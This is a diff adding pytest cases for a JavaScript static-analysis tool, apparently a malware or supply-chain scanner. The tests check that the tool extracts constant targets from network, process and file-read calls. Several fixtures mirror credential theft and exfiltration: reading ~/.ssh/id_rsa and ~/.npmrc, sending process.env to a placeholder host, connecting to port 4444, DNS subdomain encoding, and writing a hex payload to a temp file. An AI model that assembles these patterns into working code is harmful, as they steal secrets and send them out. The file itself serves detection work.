@@ -1,0 +1,83 @@
+"""What sinks are given, as far as it is constant."""
+
+import pytest
+
+from pratique.analysis.facts import Capability
+from pratique.analysis.languages.javascript.targets import address, shown
+from tests.analysis.languages.javascript.reading import facts
+
+F = "const os = require('os'), fs = require('fs'), path = require('path'), cp = require('child_process');"
+
+
+def argument(source: str, capability: Capability) -> str | None:
+    [use] = [use for use in facts(F + source).uses if use.capability is capability]
+    return use.argument
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        ("fetch('https://a.invalid/x')", "https://a.invalid/x"),
+        ("fetch(`https://a.invalid/x?d=${d}`)", "https://a.invalid/x?d="),
+        ("fetch(new URL('/x', 'https://a.invalid/'))", "https://a.invalid/x"),
+        ("const base = 'https://a.invalid'; fetch(base + '/x/' + id)", "https://a.invalid/x/"),
+        ("require('https').request({hostname: 'a.invalid', path: '/x', port: 443})", "https://a.invalid/x"),
+        ("require('http').get({host: 'a.invalid', port: 8080, path: '/'})", "http://a.invalid:8080/"),
+        ("require('axios')({baseURL: 'https://a.invalid', url: 'x'})", "https://a.invalid/x"),
+        ("require('axios').post('https://a.invalid/', d)", "https://a.invalid/"),
+        ("require('got')({url: 'https://a.invalid/'})", "https://a.invalid/"),
+        ("require('net').connect(4444, '198.51.100.7')", "198.51.100.7:4444"),
+        ("require('net').connect({host: 'a.invalid', port: 1})", "a.invalid:1"),
+        ("require('dns').resolve(`${d}.x.a.invalid`, f)", "x.a.invalid"),
+        ("new WebSocket('wss://a.invalid/s')", "wss://a.invalid/s"),
+        ("fetch(u)", None),
+        ("fetch(process.env.BASE + '/x')", None),
+    ],
+)
+def test_requests_say_where_they_go(source: str, expected: str | None) -> None:
+    assert expected == argument(source, Capability.NETWORK)
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        ("cp.exec('curl ' + u + ' -o x')", "curl ${_} -o x"),
+        ("cp.spawn('sh', ['-c', c])", "sh -c ${_}"),
+        ("cp.execSync(`npm publish ${dir}`)", "npm publish ${_}"),
+        ("cp.spawn(process.execPath, ['x.js'])", "node x.js"),
+        ("cp.exec(c)", None),
+    ],
+)
+def test_programs_say_what_they_are(source: str, expected: str | None) -> None:
+    assert expected == argument(source, Capability.PROCESS)
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        ("fs.readFileSync(path.join(os.homedir(), '.npmrc'))", "~/.npmrc"),
+        ("const home = process.env.HOME; fs.readFileSync(home + '/.ssh/id_rsa')", "~/.ssh/id_rsa"),
+        ("fs.readFileSync(process.env.APPDATA + '/x/data')", "${APPDATA}/x/data"),
+        ("fs.readFileSync(__dirname + '/data.txt')", "__dirname/data.txt"),
+        ("fs.readFileSync(file)", None),
+    ],
+)
+def test_files_say_where_they_are(source: str, expected: str | None) -> None:
+    assert expected == argument(source, Capability.FILE_READ)
+
+
+def test_flows_carry_the_target_of_what_they_end_in() -> None:
+    request = "const q = require('https').request({hostname: 'a.invalid', path: '/x'}); q.write(JSON.stringify(process.env))"
+    assert ["https://a.invalid/x"] == [flow.target for flow in facts(request).flows]
+    opened = (
+        "const x = new XMLHttpRequest(); x.open('POST', 'https://a.invalid/p'); x.send(process.env.SETTING)"
+    )
+    assert ["https://a.invalid/p"] == [flow.target for flow in facts(opened).flows]
+    written = F + "fs.writeFileSync(path.join(os.tmpdir(), 'p.js'), Buffer.from(x, 'hex'))"
+    assert ["${tmp}/p.js"] == [flow.target for flow in facts(written).flows]
+
+
+def test_the_domain_behind_a_hole_is_the_address() -> None:
+    assert "https://x.a.invalid/p" == address("https://${_}.x.a.invalid/p")
+    assert address("https://api.${_}/x") is None
+    assert shown("${_}/") is None
